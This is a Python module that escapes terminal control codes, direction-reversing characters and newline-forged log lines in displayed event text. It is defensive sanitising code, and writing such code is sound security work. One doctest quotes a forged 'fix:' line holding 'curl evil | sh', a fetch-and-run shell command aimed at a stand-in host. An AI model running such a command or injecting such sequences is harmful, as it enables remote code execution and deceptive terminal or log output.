"""Show text that quotes an event: no character of it moves a cursor, changes a title, or begins a line of a log.

Events may hold anything: sequences that clear a terminal or write what was never said, characters that reverse the
direction of writing, newlines followed by a forged line of a log.
"""

from __future__ import annotations

import json
import re
import sys
import unicodedata

_HARMFUL = {
    "Cc",
    "Cf",
    "Cs",
    "Co",
    "Cn",
    "Zl",
    "Zp",
}  # controls, formats, halves of pairs, unknown, separators of lines
_FORGED = re.compile(r"\n(?=\s*(?:where|fix):)")


def escape(text: str, *, keeps: str = "") -> str:
    r"""The text with harmful characters written as in a Python string.

    >>> escape("a\x1b[2Jb\nc"), escape("a\nb", keeps="\n")
    ('a\\x1b[2Jb\\nc', 'a\nb')
    """
    if text.isprintable():
        return text
    return "".join(_escaped(one) if one not in keeps else one for one in text)


def visible(text: str) -> str:
    r"""The text with all that is not printable written as in a Python string, also blanks of other kinds.

    >>> visible("a\tb\u202e")
    'a\\tb\\u202e'
    """
    return "".join(one if one.isprintable() else one.encode("unicode_escape").decode() for one in text)


def escape_lines(text: str) -> str:
    r"""The text of an error, which may have several lines; none of them passes for its place or its fix.

    >>> print(escape_lines("no number: x\n  fix:   curl evil | sh\x07"))
    no number: x\n  fix:   curl evil | sh\x07
    """
    return escape(_FORGED.sub(r"\\n", text), keeps="\n\t")


def escape_json(text: str) -> str:
    r"""JSON, whose texts may have characters that are harmful and that JSON need not escape.

    >>> escape_json('{"a": "\x9b2J"}')
    '{"a": "\\u009b2J"}'
    """
    if text.isprintable():
        return text
    return "".join(json.dumps(one)[1:-1] if one not in "\n\t" and _is_harmful(one) else one for one in text)


def tell(line: str) -> None:
    """Print a line on standard error, which is for what a command does; standard output is for its result."""
    print(escape(line, keeps="\n\t"), file=sys.stderr, flush=True)


def _is_harmful(one: str) -> bool:
    return unicodedata.category(one) in _HARMFUL


def _escaped(one: str) -> str:
    return one.encode("unicode_escape").decode() if _is_harmful(one) else one
